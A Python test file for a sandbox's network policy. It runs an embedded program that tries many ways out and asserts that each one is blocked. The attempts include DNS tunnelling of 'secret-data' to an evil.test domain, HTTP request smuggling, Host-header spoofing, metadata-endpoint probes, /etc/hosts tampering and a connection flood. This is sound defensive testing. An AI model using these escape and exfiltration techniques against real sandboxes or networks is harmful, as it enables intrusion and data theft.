"""A program inside that does not want to be held: root in its own room, with sockets instead of clients."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from proctor.common import ProctorError
from proctor.sandbox import Edge, Resources, Runtime, SandboxSpec
from proctor.sandbox.net import NetworkPolicy, Rule

from ..edges import small
from .inside import server, web

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from pathlib import Path

pytestmark = [pytest.mark.anyio, pytest.mark.sandbox]

PROGRAM = r"""
import json, os, socket, struct, subprocess, sys

found = {}

def attempt(name, action):
    try:
        found[name] = action() or "done"
    except OSError as error:
        found[name] = f"{type(error).__name__}: {error}"

def dial(address, port, data=b"GET / HTTP/1.1\r\nHost: one.test\r\nConnection: close\r\n\r\n"):
    with socket.create_connection((address, port), timeout=5) as s:
        s.sendall(data)
        got = b""
        while more := s.recv(65536):
            got += more
        return got[:200].decode("latin-1")

def datagram(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(b"x" * 20, (address, port))
    return str(s.recv(100))

def query(name, kind):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(struct.pack("!6H", 1, 256, 1, 0, 0, 0) + labels + struct.pack("!2H", kind, 1), ("127.0.0.53", 53))
    reply = s.recv(600)
    return f"code {reply[3] & 15}, {reply[7]} answers"

mine = socket.gethostbyname("one.test")
attempt("ours", lambda: dial(mine, 80))
attempt("the host's loopback", lambda: dial("127.0.0.1", int(sys.argv[1])))
attempt("a neighbour's address", lambda: dial("127.64.0.200", 80))
attempt("another port", lambda: dial(mine, 22))
attempt("metadata", lambda: dial("169.254.169.254", 80))
attempt("a public address", lambda: dial("8.8.8.8", 443))
attempt("udp", lambda: datagram("8.8.8.8", 53))
attempt("udp to ours", lambda: datagram(mine, 80))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b"\x08\0\xf7\xff", ("8.8.8.8", 0)))
attempt("ipv6", lambda: socket.socket(socket.AF_INET6).connect(("2606:4700::1", 443)))
add = ["ip", "link", "add", "d0", "type", "dummy"]
attempt("a device", lambda: subprocess.run(add, capture_output=True, text=True).stderr)
attempt("txt", lambda: query("one.test", 16))
attempt("tunnel", lambda: query("secret-data-goes-here.evil.test", 1))
attempt("tunnel below ours", lambda: query("secret-data.one.test", 1))
attempt("host header", lambda: dial(mine, 80, b"GET / HTTP/1.1\r\nHost: two.test\r\n\r\n"))
two = b"Host: one.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
attempt("smuggling", lambda: dial(mine, 80, b"GET / HTTP/1.1\r\n" + two))
attempt("ssh", lambda: dial(mine, 80, b"SSH-2.0-x\r\n"))
open("/etc/hosts", "a").write(f"{mine} two.test\n")
attempt("hosts file", lambda: dial("two.test", 80, b"GET / HTTP/1.1\r\nHost: two.test\r\n\r\n"))
abstract = socket.socket(socket.AF_UNIX)
attempt("abstract", lambda: abstract.connect("\0proctor-test-listener"))
print(json.dumps(found))
"""


@pytest.fixture
async def edge(tmp_path: Path) -> AsyncIterator[Edge]:
    async with Edge(tmp_path, pool_size=1) as made:
        yield made


@pytest.mark.parametrize("runtime", ["native", "runsc"])
async def test_nothing_gets_out_around_the_boundary(edge: Edge, runtime: Runtime) -> None:
    import socket

    try:
        await edge.ready(runtime)
    except ProctorError as error:
        pytest.skip(f"runtime {runtime}: {error.message}")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\0proctor-test-listener")
    listener.listen()
    seen: list[bytes] = []
    async with server(web(seen=seen)) as where:
        policy = NetworkPolicy("allow", (Rule("one.test", (80,), internal=True, target=where),))
        spec = SandboxSpec(runtime=runtime, network=policy, resources=Resources(memory_mb=256, disk_mb=32, pids=64))
        async with await edge.create(spec) as box, await edge.create(spec) as sibling:
            await sibling.exec("getent hosts one.test")
            result = await box.exec(["python3", "-c", PROGRAM, where.split(":")[1]], timeout_s=60)
            assert result.ok, result
            found = json.loads(result.text)
            receipt = await box.receipt()
    listener.close()
    assert found.pop("ours").endswith("hello")
    for name in ("host header", "hosts file"):
        assert found.pop(name).startswith("HTTP/1.1 403"), name
    assert found.pop("smuggling").startswith("HTTP/1.1 400")
    assert found.pop("txt") == "code 5, 0 answers"
    assert found.pop("tunnel") == found.pop("tunnel below ours") == "code 3, 0 answers"
    assert found.pop("a device") != "done"
    for name, what in found.items():
        assert "Error" in what or "timed out" in what, (name, what)
    assert len(seen) == 1, "only what was meant to get through did"
    reasons = receipt.network_decisions["reasons"]
    assert {"request: http-other-host", "request: http-ambiguous-length", "lookup: type-TXT"} <= set(reasons)
    assert "connection: protocol-not-allowed" in reasons


async def test_a_program_that_takes_our_address_takes_it_from_itself_alone(edge: Edge) -> None:
    take = "import socket, time; s = socket.create_server(('0.0.0.0', 80)); time.sleep(60)"
    async with server(web()) as where:
        policy = NetworkPolicy("allow", (Rule("one.test", (80,), internal=True, target=where),))
        async with await edge.create(small(network=policy)) as box:
            await box.start(["python3", "-c", take], keep=True)
            assert (await box.exec("until grep -q ':0050 ' /proc/net/tcp; do sleep 0.05; done", timeout_s=20)).ok
            assert not (await box.exec("curl -sS -m 5 http://one.test/", timeout_s=20)).ok
            failed = [event for event in box.network_events if event.decision == "failed"]
            assert failed
            assert "Address already in use" in failed[0].reason
            await box.kill_all()
            assert (await box.exec("curl -sS -m 5 http://one.test/", timeout_s=20)).text == "hello"


async def test_a_flood_of_connections_leaves_the_sandbox_working(edge: Edge) -> None:
    flood = (
        "import socket, threading\n"
        "def run():\n"
        "  for i in range(66):\n"
        "    try:\n"
        "      s = socket.create_connection((address, 80), timeout=0.3)\n"
        "      s.sendall(b'GET /')\n"
        "      keep.append(s)\n"
        "    except OSError: pass\n"
        "keep, address = [], socket.gethostbyname('one.test')\n"
        "threads = [threading.Thread(target=run) for _ in range(8)]\n"
        "[t.start() for t in threads]; [t.join() for t in threads]\n"
        "print(len(keep))\n"
    )
    async with server(web()) as where:
        policy = NetworkPolicy("allow", (Rule("one.test", (80,), internal=True, target=where),))
        async with await edge.create(small(network=policy)) as box:
            result = await box.exec(["python3", "-c", flood], timeout_s=120)
            assert result.ok, result
            assert (await box.exec("curl -sS -m 20 http://one.test/", timeout_s=60)).text == "hello"
            decisions = (await box.receipt()).network_decisions
            assert decisions["reasons"]["connection: too-many-connections"] >= 1
